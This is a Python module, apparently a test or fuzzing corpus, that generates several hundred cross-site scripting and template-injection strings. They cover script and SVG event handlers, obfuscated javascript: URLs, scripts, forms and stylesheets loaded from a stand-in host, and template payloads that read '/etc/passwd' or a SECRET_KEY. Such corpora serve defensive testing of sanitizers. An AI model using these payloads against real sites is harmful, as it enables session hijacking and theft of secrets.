"""Strings by which somebody would have a browser run a script, load a file or send a form, made from families.

Each that runs calls `alert(7)` or asks elsewhere.example for something. None is empty, and none is there twice.
"""

from html import escape
from itertools import product
from urllib.parse import quote

RUN, ELSEWHERE = "alert(7)", "//elsewhere.example/x"

BREAKERS = ["", '">', "'>", "</title>", "</textarea>", "</script>", "-->", "]]>", "</style>", "`>", "/>", '\\">']
ELEMENTS = [
    f"<script>{RUN}</script>",
    f"<script src={ELSEWHERE}></script>",
    f"<ScRiPt/x>{RUN}</sCrIpT>",
    f"<img src=x onerror={RUN}>",
    f'<img src="{ELSEWHERE}">',
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f'<svg><a xlink:href="javascript:{RUN}"><text y=9>x</text></a></svg>',
    f"<svg><use href=data:image/svg+xml,x onload={RUN}>",
    f"<math><mtext><style><img src=x onerror={RUN}></style></mtext></math>",
    f'<math><maction xlink:href="javascript:{RUN}">x</maction></math>',
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<iframe src=javascript:parent.{RUN}></iframe>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<input autofocus onfocus={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<body onpageshow={RUN}>",
    f"<form action={ELSEWHERE}><button>x</button></form>",
    f"<object data=javascript:{RUN}></object>",
    f"<base href={ELSEWHERE}>",
    f'<meta http-equiv=refresh content="0;url=javascript:{RUN}">',
    f"<style>*{{background:url({ELSEWHERE})}}</style>",
    f"<link rel=stylesheet href={ELSEWHERE}>",
]  # fmt: skip
EVENTS = [
    "onload", "onerror", "onclick", "onfocus", "onblur", "onmouseover", "onpointerenter", "onanimationstart",
    "ontransitionend", "onscroll", "onwheel", "ontoggle", "oninput", "onchange", "oncut", "onpaste",
]  # fmt: skip
SCHEMES = [
    "javascript:", "JaVaScRiPt:", " javascript:", "java\tscript:", "javascript&colon;", "javascript&#58;",
    "&#106;avascript:", "\x01javascript:", "javascript://%0a", "data:text/html,<script>", "vbscript:",
    "view-source:",
]  # fmt: skip
EXPRESSIONS = [
    "{{7*7}}", "{{constructor.constructor('alert(7)')()}}", "{% debug %}", "{% include '/etc/passwd' %}",
    "{{ settings.SECRET_KEY }}", "${alert(7)}", "#{alert(7)}", "<%= alert(7) %>", "[[alert(7)]]", "*{alert(7)}",
    "%(alert)s", "{0.__class__}", "`${alert(7)}`", "';alert(7)//", '";alert(7)//', "\\';alert(7)//",
    "</script><!--", "\u2028alert(7)\u2029", "__prefix__'\"><img src=x onerror=alert(7)>",
]  # fmt: skip
STYLES = [
    "expression(alert(7))", f"background:url({ELSEWHERE})", f"@import '{ELSEWHERE}';", "behavior:url(x.htc)",
    "x:\\65xpression(alert(7))", f"}}*{{background:url({ELSEWHERE})}}",
]  # fmt: skip
FORMS = [
    escape,
    quote,
    lambda text: quote(quote(text)),
    lambda text: "".join(f"&#{ord(sign)};" for sign in text),
    lambda text: "".join(f"&#x{ord(sign):x}" for sign in text),
    lambda text: text.replace("<", "\\u003c").replace(">", "\\u003e"),
    lambda text: text.replace("<", "\uff1c").replace(">", "\uff1e"),
    lambda text: f"\u202e{text[::-1]}\u202c",
    lambda text: f"\u2067{text}\u2069 مرحبا",
    lambda text: "\u200b".join(text),
    lambda text: text.replace("<", "<\u0000"[:1] + "\x0b").replace(" ", "\x0c"),
    lambda text: text.replace("<", "+ADw-").replace(">", "+AD4-"),
]


def injections() -> list[str]:
    """Return more than 400 strings, always the same."""
    made = [breaker + element for breaker, element in product(BREAKERS, ELEMENTS)]
    made += [f"{mark} {event}={RUN} x={mark}" for mark, event in product(("'", '"', ""), EVENTS)]
    made += [scheme + RUN for scheme in SCHEMES] + EXPRESSIONS
    made += ['" style="'[:end] + style for end, style in product((0, 9), STYLES)]
    made += [form(element) for form, element in product(FORMS, ELEMENTS[0:12:3])]
    return list(dict.fromkeys(made))
